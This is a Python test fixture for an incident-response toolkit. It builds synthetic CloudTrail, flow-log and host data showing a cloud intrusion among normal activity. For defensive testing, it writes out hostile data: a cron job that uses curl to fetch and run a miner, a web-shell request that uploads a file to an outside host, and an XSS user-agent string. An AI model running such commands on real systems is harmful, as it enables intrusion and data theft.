"""A small break-in told in CloudTrail, flow logs and host facts, among ordinary activity that looks alike."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from irkit.hunt import Subject
from irkit.logs import ingest
from tests.logs.builders import (
    ACCOUNT,
    assume_role,
    at,
    flow,
    get_object,
    record,
    role_session,
    user,
    write_flows,
    write_trail,
)

INSTANCE = "i-0aaaaaaaaaaaaaaaa"
SIBLING = "i-0bbbbbbbbbbbbbbbb"
OWN = "10.0.1.10"
OWN_PUBLIC = "198.18.0.10"
OTHER = "10.0.1.20"
KEY = "ASIASTOLEN0000000000"
SIBLING_KEY = "ASIASIBLING000000000"
SECOND_KEY = "ASIASECOND0000000000"
THIRD_KEY = "ASIATHIRD00000000000"
PLANTED_KEY = "AKIAPLANTED000000000"
NIGHTLY_KEY = "ASIANIGHTLY000000000"
OUTSIDE, LATER, WEB = "203.0.113.50", "198.51.100.60", "203.0.113.70"
POOL, DROP, MIRROR = "198.19.9.9", "198.19.8.8", "198.19.7.7"
BAD_ACCOUNT, OWN_SECOND_ACCOUNT = "777777777777", "444455556666"
BUCKET = "customer-exports"
HOSTILE_AGENT = "<script>alert(1)</script>"

SUBJECT = Subject(instance_id=INSTANCE, account=ACCOUNT, addresses=(OWN, OWN_PUBLIC))


def share(snapshot: str, account: str, minutes: float, **more: Any) -> dict[str, Any]:
    """A snapshot opened to an account."""
    request = {
        "snapshotId": snapshot,
        "createVolumePermission": {"add": {"items": [{"userId": account}]}},
        "attributeType": "CREATE_VOLUME_PERMISSION",
    }
    return record("ec2:ModifySnapshotAttribute", minutes, request=request, response={"_return": True}, **more)


def create_key(name: str, key: str, minutes: float, **more: Any) -> dict[str, Any]:
    """An access key created for a user."""
    response = {"accessKey": {"userName": name, "accessKeyId": key, "status": "Active"}}
    return record("iam:CreateAccessKey", minutes, request={"userName": name}, response=response, **more)


def trail_records() -> list[dict[str, Any]]:
    """What CloudTrail saw: 40 minutes of quiet, then the intruder, with everyone else going on."""
    web = role_session("Web", INSTANCE, KEY)
    sibling = role_session("Web", SIBLING, SIBLING_KEY)
    second = role_session("Export", "backup-1", SECOND_KEY)
    nightly = role_session("Export", "nightly", NIGHTLY_KEY)
    planted = user("svc-backup", PLANTED_KEY)
    admin = user("admin", "AKIAADMIN00000000000")
    thief = {"identity": web, "ip": OUTSIDE, "userAgent": HOSTILE_AGENT}
    ordinary = [
        assume_role("Web", INSTANCE, KEY, 0, identity={"type": "AWSService", "invokedBy": "ec2.amazonaws.com"}),
        *(get_object("assets", f"a{n}", 100, n, identity=web, ip=OWN) for n in range(0, 90, 5)),
        *(record("ssm:UpdateInstanceInformation", n, identity=web, ip=OWN_PUBLIC) for n in range(0, 90, 10)),
        *(record("ec2:DescribeInstances", n, identity=sibling, ip=OTHER) for n in range(0, 90, 10)),
        record("kms:Decrypt", 61, identity=web, ip="secretsmanager.amazonaws.com"),
        create_key("svc-rotated", "AKIAROTATED000000000", 5, identity=admin),
        assume_role("Export", "nightly", NIGHTLY_KEY, 10, identity=user("jobs", "AKIAJOBS000000000000")),
        *(get_object(BUCKET, f"n{n}", 50, 11 + n / 10, identity=nightly, ip="10.0.3.40") for n in range(20)),
        share("snap-0nightly", OWN_SECOND_ACCOUNT, 20, identity=admin),
        record("iam:AttachUserPolicy", 25, identity=admin, request={"userName": "bob", "policyArn": "arn:aws:x"}),
        record("iam:ListRoles", 30, identity=admin, error="AccessDenied"),
        record("cloudtrail:StopLogging", 2, identity=admin, error="AccessDenied", request={"name": "t"},
               read_only=False),
        record("ec2:DescribeInstances", 80, identity=admin, userAgent="Boto3/1.4 irkit/0.1 case/2026-11-0001"),
        record("signin:ConsoleLogin", 3, identity=admin, response={"ConsoleLogin": "Success"},
               additionalEventData={"MFAUsed": "Yes"}),
    ]  # fmt: skip
    intruder = [
        record("sts:GetCallerIdentity", 40, **thief),
        *(record(f"ec2:Describe{what}", 41 + n / 10, **thief) for n, what in enumerate(("Instances", "Volumes", "Vpcs",
          "Snapshots", "Regions", "Images", "SecurityGroups", "Subnets", "Addresses", "KeyPairs", "Tags"))),
        record("iam:CreateUser", 43, error="AccessDenied", request={"userName": "support"}, **thief),
        record("ec2:RunInstances", 44, error="Client.UnauthorizedOperation", **thief),
        create_key("svc-backup", PLANTED_KEY, 45, **thief),
        assume_role("Export", "backup-1", SECOND_KEY, 50, **thief),
        *(get_object(BUCKET, f"c{n}", 1000, 51 + n / 10, identity=second, ip=OUTSIDE) for n in range(30)),
        get_object(BUCKET, "c0", 1000, 54.5, identity=second, ip=OUTSIDE),
        share("snap-0stolen", BAD_ACCOUNT, 55, identity=second, ip=OUTSIDE),
        assume_role("Deeper", "x", THIRD_KEY, 56, identity=second, ip=OUTSIDE),
        record("secretsmanager:GetSecretValue", 57, identity=role_session("Deeper", "x", THIRD_KEY), ip=OUTSIDE,
               request={"secretId": "db"}),
        record("cloudtrail:StopLogging", 58, error="AccessDenied", request={"name": "t"}, read_only=False, **thief),
        record("sts:GetCallerIdentity", 60, **thief),
        record("s3:ListBuckets", 85, identity=planted, ip=LATER),
    ]  # fmt: skip
    return ordinary + intruder


def flow_lines() -> list[str]:
    """What the interfaces saw: from two hours before, so that what is new can be told from what is old."""
    lines: list[str] = []
    for n in range(-120, 90, 3):
        for own in (OWN, OTHER):
            port = 40000 + n
            lines += [flow(own, MIRROR, port, 443, 900 + n, n), flow(MIRROR, own, 443, port, 90_000, n)]
            lines += [flow(own, "10.0.3.3", port, 5432, 900, n)]
    for n in range(30, 90):
        lines += [flow(OWN, POOL, 48000, 3333, 1000, n), flow(POOL, OWN, 3333, 48000, 500, n)]
    for n in range(70, 75):
        lines += [flow(OWN, DROP, 50000, 443, 9_000_000, n), flow(DROP, OWN, 443, 50000, 90_000, n)]
    for n in (15, 20, 25):
        lines += [flow(WEB, OWN, 51000 + n, 80, 700, n), flow(OWN, WEB, 80, 51000 + n, 1200, n)]
        lines += [
            flow("192.0.2.99", OWN, 52000 + n, 80, 700, n),
            flow(OWN, "192.0.2.99", 80, 52000 + n, 12000, n),
        ]
    lines += [
        flow("203.0.113.200", OWN, 60000, port, 40, port / 10, action="REJECT") for port in range(20, 40)
    ]
    return lines


def host_facts() -> dict[str, Any]:
    """What the host said of itself."""
    shell, miner = "/var/www/html/uploads/x.php", "/var/tmp/.x/kworkerd"
    return {
        "schema": "irkit/host-facts/1",
        "processes": [
            {"pid": 7, "exe": "/usr/sbin/httpd", "deleted": False, "cmdline": ["httpd"], "started": None},
            {"pid": 8, "exe": "/usr/sbin/sshd", "deleted": True, "cmdline": ["sshd"], "started": None},
            {"pid": 9, "exe": miner, "deleted": True, "cmdline": [miner], "started": at(30).isoformat()},
        ],
        "sockets": [
            {"protocol": "tcp", "state": "ESTAB", "local": OWN, "local_port": 48000, "remote": POOL,
             "remote_port": 3333, "pid": 9},
            {"protocol": "tcp", "state": "ESTAB", "local": OWN, "local_port": 22, "remote": "192.0.2.10",
             "remote_port": 5, "pid": 7},
        ],
        "cron": [
            {"file": "/etc/cron.d/0hourly", "command": "run-parts /etc/cron.hourly", "user": "root",
             "schedule": "1 * * * *"},
            {"file": "/etc/cron.d/x", "command": f"curl http://{POOL}/k -o {miner}; {miner}", "user": "root",
             "schedule": "* * * * *", "modified": at(31).isoformat()},
        ],
        "keys": [
            {"file": "/root/.ssh/authorized_keys", "modified": at(-9000).isoformat(), "fingerprint": "SHA256:launch"},
            {"file": "/home/u/.ssh/authorized_keys", "modified": at(32).isoformat(), "fingerprint": "SHA256:launch"},
            {"file": "/home/u/.ssh/authorized_keys", "modified": at(32).isoformat(), "fingerprint": "SHA256:evil",
             "comment": "<b>me</b>"},
        ],
        "files": [
            {"path": shell, "why": "web", "code": True, "modified": at(14).isoformat()},
            {"path": "/var/www/html/index.php", "why": "web", "code": False},
        ],
        "requests": [
            {"address": WEB, "at": at(15).isoformat(), "target": "/uploads/x.php?c=id", "status": 200, "method": "GET"},
            {"address": WEB, "at": at(25).isoformat(), "status": 200, "method": "GET",
             "target": f"/uploads/x.php?c=curl%20-T%20f%20https%3A%2F%2F{DROP}%2F"},
            {"address": "192.0.2.99", "at": at(15).isoformat(), "target": "/index.php", "status": 200, "method": "GET"},
            {"address": "192.0.2.98", "at": at(16).isoformat(), "target": "/uploads/x.php", "status": 404,
             "method": "GET"},
        ],
        "histories": [{"file": "/root/.bash_history", "lines": ["ls", f"ping {OTHER}"]}],
    }  # fmt: skip


def build(folder: Path) -> Path:
    """The tables of it all."""
    write_trail(folder / "raw" / "trail.json.gz", trail_records())
    write_flows(folder / "raw" / "flow.log.gz", flow_lines())
    ingest(folder / "raw", folder / "tables")
    return folder / "tables"
